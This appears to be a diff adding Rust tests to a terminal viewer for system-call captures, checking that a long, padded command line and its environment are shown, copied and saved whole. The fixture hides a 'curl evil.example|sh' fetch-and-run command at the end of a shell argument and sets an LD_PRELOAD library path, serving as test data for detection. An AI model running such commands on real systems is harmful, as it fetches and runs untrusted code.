@@ -14,6 +14,7 @@ use scap_capture_format::native::{
 use scap_capture_format::schema::{EventType, event_info, types};
 use unicode_width::UnicodeWidthStr as _;
 
+use super::model::Overlay;
 use super::update::update;
 use super::*;
 
@@ -252,6 +253,135 @@ fn an_argument_of_ten_megabytes_is_shown_cut() {
     check(&screen.draw());
     press(&mut screen, "xx<End>");
     check(&screen.draw());
+}
+
+/// A capture of a program whose long argument ends with what matters; returns the argument.
+fn long_command(path: &Path) -> String {
+    let mut made = MadeUp::new(path);
+    let long = format!("# nothing\n{}; curl evil.example|sh", "x".repeat(1500));
+    let args = format!("-c\0{long}\0two words\0");
+    let env = format!("A=1\0LD_PRELOAD=/tmp/{}.so\0\x1b=x\0", "y".repeat(1500));
+    let (zero, one, none) = (0_i64.to_le_bytes(), 1_i64.to_le_bytes(), &[][..]);
+    let params: &[&[u8]] = &[
+        &zero,
+        b"/bin/sh\0",
+        args.as_bytes(),
+        &one,
+        &one,
+        &one,
+        b"\0",
+        &zero,
+        &zero,
+        &zero,
+        &[0; 4],
+        &[0; 4],
+        &[0; 4],
+        b"a-script\0",
+        none,
+        env.as_bytes(),
+    ];
+    made.push(types::SYSCALL_EXECVE_19_X, 0, 1, Some(1), params);
+    made.finish();
+    long.replace('\n', "\\n")
+}
+
+/// Returns what is inside the frame of a text, without the line breaks of the screen.
+fn inside(screen: &mut Screen) -> String {
+    let shown = screenshot::text(&screen.draw());
+    let lines = shown
+        .lines()
+        .filter_map(|line| line.strip_prefix('\u{2502}'));
+    lines
+        .map(|line| line.trim_end_matches(['\u{2502}', ' ']))
+        .collect()
+}
+
+#[test]
+fn a_command_line_is_what_was_executed_and_all_of_it_is_read_copied_and_saved() {
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("command.scap");
+    let long = long_command(&path);
+    let mut screen = open(&path, (120, 40));
+    // The name of the script is not the program.
+    for view in ["6", "3"] {
+        press(&mut screen, view);
+        let shown = screenshot::text(&screen.draw());
+        assert!(shown.contains("/bin/sh -c # nothing\\nxxx"), "{shown}");
+        press(&mut screen, "i");
+        check(&screen.draw());
+        let shown = inside(&mut screen);
+        assert!(
+            shown.contains(&format!("/bin/sh -c {long} two words")),
+            "{shown}"
+        );
+        press(&mut screen, "<Esc>");
+    }
+    press(&mut screen, "2<Enter>");
+    let mut whole = |name: &str, value: &str| {
+        press(&mut screen, "<Home>");
+        let Some(Overlay::Detail(pane)) = screen.model.layers.last() else {
+            panic!("no details");
+        };
+        let detail = pane.detail.as_ref().unwrap();
+        let mut entries = detail.groups.iter().flat_map(|group| &group.entries);
+        let at = entries.position(|entry| entry.name == name).unwrap();
+        press(&mut screen, &format!("{}<Enter>", "j".repeat(at)));
+        check(&screen.draw());
+        assert!(inside(&mut screen).contains(value), "{name}");
+        let to = dir.path().join(format!("{name}.txt"));
+        press(&mut screen, &format!("yw{}<Enter>", to.display()));
+        assert_eq!(screen.copied.last().unwrap(), value);
+        assert_eq!(std::fs::read_to_string(to).unwrap(), format!("{value}\n"));
+        press(&mut screen, "<Esc>");
+    };
+    whole("argv[0]", "/bin/sh");
+    whole("argv[2]", &long);
+    whole("argv[3]", "two words");
+    whole("LD_PRELOAD", &format!("/tmp/{}.so", "y".repeat(1500)));
+    whole("\\x1b", "x");
+    whole("proc.exeline", &format!("/bin/sh -c {long} two words"));
+    // Nothing is overwritten, and a file without the extension is not written.
+    let file = dir.path().join("argv[0]");
+    press(
+        &mut screen,
+        &format!("<Home><Enter>w{}.txt<Enter>", file.display()),
+    );
+    assert!(
+        screen
+            .model
+            .status
+            .as_ref()
+            .unwrap()
+            .contains("already exists")
+    );
+    press(&mut screen, &format!("w{}<Enter>", file.display()));
+    assert!(screen.model.status.as_ref().unwrap().contains(".txt") && !file.exists());
+    // At another width the text is wrapped again.
+    press(&mut screen, "<Esc><Home><Down><Down><Enter>");
+    let commands = update(&mut screen.model, Message::Resize(50, 20));
+    screen.carry_out(commands);
+    check(&screen.draw());
+    let lines = inside(&mut screen);
+    assert!(lines.starts_with("-c.# nothing."), "{lines}");
+    press(&mut screen, "<End>");
+    assert!(inside(&mut screen).contains("curl evil.example|sh"));
+}
+
+#[test]
+fn what_the_clipboard_does_not_take_is_said() {
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("long.scap");
+    let mut made = MadeUp::new(&path);
+    let args = vec![b'a'; 100_000];
+    let zero = 0_i64.to_le_bytes();
+    let params: &[&[u8]] = &[&zero, b"/bin/sh\0", &args];
+    made.push(types::SYSCALL_EXECVE_19_X, 0, 1, Some(1), params);
+    made.finish();
+    let mut screen = open(&path, (80, 24));
+    press(&mut screen, "2<Enter><Down><Down><Enter>y");
+    let status = screen.model.status.clone().unwrap();
+    assert_eq!(status, "copied only 65536 of 100000 bytes");
+    assert_eq!(screen.copied.last().unwrap().len(), 65_536);
 }
 
 #[test]
